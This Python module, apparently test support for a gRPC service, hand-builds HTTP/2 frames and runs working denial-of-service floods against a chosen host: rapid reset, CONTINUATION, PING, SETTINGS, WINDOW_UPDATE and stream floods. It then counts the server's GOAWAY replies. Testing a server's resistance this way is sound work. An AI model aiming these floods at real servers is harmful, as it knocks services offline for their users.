"""HTTP/2 by hand, for callers that gRPC's clients would never be; run as a program it attacks.

    python -m support.http2 HOST PORT SECONDS CONNECTIONS ATTACK

prints a line "streams connections goaways" when it is done.
"""

import asyncio
import contextlib
import sys
import time
from collections.abc import Callable

from footnote_kit.front.frames import (
    CONTINUATION,
    DATA,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    frame,
)

GREETING = PREFACE + frame(SETTINGS)
END_HEADERS, END_STREAM = 4, 1


def _literal(name: str, value: str) -> bytes:
    return b"\x40" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def head(path: str = "/footnote.edge.v1.AnswersService/Ask") -> bytes:
    """Return the header block of a connection's first call; the others may be `AGAIN`."""
    block = b"\x83\x86" + b"\x44" + bytes([len(path)]) + path.encode() + b"\x41\x01a"
    return block + _literal("content-type", "application/grpc") + _literal("te", "trailers")


AGAIN = bytes([0x83, 0x86, 0xC1, 0xC0, 0xBF, 0xBE])
"""The same headers by their places in the tables."""


def opened(stream: int, end: int = 0) -> bytes:
    """Return the frame that begins a call."""
    return frame(HEADERS, head() if stream == 1 else AGAIN, END_HEADERS | end, stream)


def reset(stream: int) -> bytes:
    """Return the frame that breaks it off."""
    return frame(RST_STREAM, (8).to_bytes(4), 0, stream)


def rapid_reset(first: int, count: int) -> bytes:
    """Return many calls, each cancelled at once."""
    return b"".join(opened(n) + reset(n) for n in range(first, first + 2 * count, 2))


def _open(first: int, count: int) -> bytes:
    return b"".join(opened(n, END_STREAM) for n in range(first, first + 2 * count, 2))


ATTACKS: dict[str, Callable[[int, int], bytes]] = {
    "reset": rapid_reset,
    "open": _open,
    "ping": lambda _, count: frame(PING, bytes(8)) * count,
    "settings": lambda _, count: frame(SETTINGS) * count,
    "empty": lambda first, count: opened(first) + frame(DATA, b"", 0, first) * count,
    "continuation": lambda first, count: frame(HEADERS, head(), 0, first) + frame(CONTINUATION, b"", 0, first) * count,
    "window": lambda _, count: frame(WINDOW_UPDATE, (1).to_bytes(4)) * count,
    "connect": lambda *_: b"",
}


PIECE, PIECES = 1000, 200


async def _attack(host: str, port: int, end: float, pieces: list[bytes], counts: list[int]) -> None:
    while time.monotonic() < end:
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            await asyncio.sleep(0.01)
            continue
        counts[1] += 1
        received = bytearray()

        async def drink(reader: asyncio.StreamReader = reader, received: bytearray = received) -> None:
            with contextlib.suppress(OSError):
                while data := await reader.read(65536):
                    received[:] = (received + data)[-200:]

        drinking = asyncio.create_task(drink())
        with contextlib.suppress(OSError):
            writer.write(GREETING)
            for piece in pieces:
                if time.monotonic() > end or drinking.done():
                    break
                writer.write(piece)
                counts[0] += PIECE
                await writer.drain()
                await asyncio.sleep(0)
        writer.close()
        drinking.cancel()
        await asyncio.gather(drinking, return_exceptions=True)
        counts[2] += b"too_many" in received or b"too_long" in received


async def main(host: str, port: int, seconds: float, connections: int, attack: str) -> None:
    counts = [0, 0, 0]
    pieces = [ATTACKS[attack](1 + 2 * PIECE * n, PIECE) for n in range(PIECES)] if attack != "connect" else []
    end = time.monotonic() + seconds
    await asyncio.gather(*(_attack(host, port, end, pieces, counts) for _ in range(connections)))
    print(*counts)


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4]), sys.argv[5]))
